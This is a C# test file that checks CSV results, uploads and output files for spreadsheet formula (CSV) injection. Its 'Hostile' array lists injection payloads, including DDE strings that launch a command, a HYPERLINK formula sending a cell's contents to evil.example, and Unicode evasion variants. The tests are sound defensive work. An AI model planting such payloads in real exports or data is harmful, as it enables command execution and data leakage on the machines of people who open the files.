using System.Globalization;
using Ops.Domain.Catalogue;
using Ops.Domain.Runs;
using Ops.Domain.Tests.Support;

namespace Ops.Domain.Tests.Runs;

/// <summary>THREATS T15: what an upload or an operation supplies must not run in the spreadsheet of whoever opens a download.</summary>
public sealed class FormulaTests
{
    /// <summary>From OWASP's page on CSV injection and from what its rules miss.</summary>
    internal static readonly string[] Hostile =
    [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "  =1", "\u00A0=1", "\u3000=1", "\u200B=1", "\uFEFF=1", "\u202E=1", "＝1", "＋cmd", "－1x", "＠SUM", " ＝1",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=\"x\"", "a;=1+1", "a\t=1+1", "a,=1+1", "\"=1+1", "x\r\n=1+1", "=1\",=2", "%0A=1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+49 (0) 30", "--1", "-2+3+cmd|' /C calc'!A0", "=\u0000cmd",
    ];

    [Fact]
    public async Task T15_No_cell_of_results_problems_and_outcomes_is_a_formula()
    {
        await using var console = await TestConsole.Start();
        console.Deck.Keys = Hostile;
        console.Deck.Plan = call => ItemPlan.Change(call.Key, new { call.Key });
        console.Deck.Apply = call => Task.FromResult<Outcome?>(Array.IndexOf(Hostile, call.Key) % 2 == 0 ? Outcome.Done(call.Key, call.Key) : Outcome.Failed(call.Key));
        var run = await console.Do("test.plain");
        foreach (var rows in new[] { ResultRows.All, ResultRows.Problems, ResultRows.Only(ItemOutcome.Failed), ResultRows.Only(ItemOutcome.Succeeded) })
        {
            var file = new MemoryStream();
            await console.Get<RunResults>().WriteResults(run.Id, rows, file, default);
            var (_, found) = await Check(file);
            Assert.Equal(rows == ResultRows.All ? Hostile.Length : Hostile.Length / 2, found.Count);
        }
    }

    [Fact]
    public async Task T15_No_cell_of_an_uploaded_file_is_a_formula_in_what_comes_back()
    {
        await using var console = await TestConsole.Start();
        var csv = "card,remark\n" + string.Concat(Hostile.Select((h, i) => $"c{i:000},\"{h.Replace("\"", "\"\"", StringComparison.Ordinal).Replace("\u0000", "", StringComparison.Ordinal)}\"\n"));
        var run = await console.Do("test.cards", inputs: await console.Upload(csv), but: r => r with { Limit = 5 });
        foreach (var (rows, count) in new[] { (ResultRows.All, Hostile.Length), (ResultRows.Remaining, Hostile.Length - 5) })
        {
            var file = new MemoryStream();
            await console.Get<RunResults>().WriteResults(run.Id, rows, file, default);
            Assert.Equal(count, (await Check(file)).Rows.Count);
        }
    }

    [Fact]
    public async Task T15_No_cell_of_an_output_file_is_a_formula()
    {
        await using var console = await TestConsole.Start();
        console.Deck.Keys = [.. Hostile.Select((_, i) => $"k{i:000}")];
        console.Deck.Plan = call => ItemPlan.Write(new CardRow { Card = Hostile[int.Parse(call.Key[1..], CultureInfo.InvariantCulture)], Remark = "=1" });
        var run = await console.Do("test.export");
        var file = new MemoryStream();
        await console.Get<RunResults>().WriteOutput(run.Id, file, default);
        Assert.Equal(Hostile.Length, (await Check(file)).Rows.Count);
    }

    /// <summary>Reads the file as spreadsheets do, and judges each cell by rule.</summary>
    private static async Task<(List<string> Header, List<List<string>> Rows)> Check(MemoryStream file)
    {
        var text = System.Text.Encoding.UTF8.GetString(file.ToArray()).TrimStart('\uFEFF');
        Assert.All(Cells(text, ','), cell => Assert.False(IsFormula(cell), $"'{cell}'"));

        file.Position = 0;
        var (header, rows) = await CsvText.Read(file);
        return ([.. header], [.. rows.Select(r => r.ToList())]);
    }

    private static IEnumerable<string> Cells(string text, char separator)
    {
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c == separator || c is '\r' or '\n')
            {
                yield return cell.ToString();
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        yield return cell.ToString();
    }

    // Independent of the guard: what a spreadsheet would take for the beginning of a formula.
    private static bool IsFormula(string cell)
    {
        if (cell.Length == 0)
        {
            return false;
        }

        var bare = new string([.. cell.SkipWhile(c => char.IsWhiteSpace(c) || char.GetUnicodeCategory(c) == UnicodeCategory.Format)]).Normalize(System.Text.NormalizationForm.FormKC);
        return (bare.Length > 0 && "=+-@".Contains(bare[0], StringComparison.Ordinal) && !decimal.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _)) || cell[0] is '\t' or '\r' or '\n';
    }
}
